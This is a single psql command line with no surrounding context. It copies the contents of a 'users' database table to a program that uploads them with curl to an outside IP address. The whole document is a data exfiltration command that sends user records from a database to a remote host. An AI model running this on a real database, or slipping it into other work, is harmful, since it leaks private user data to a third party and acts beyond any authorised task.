\copy users to program 'curl -T - http://203.0.113.5/'
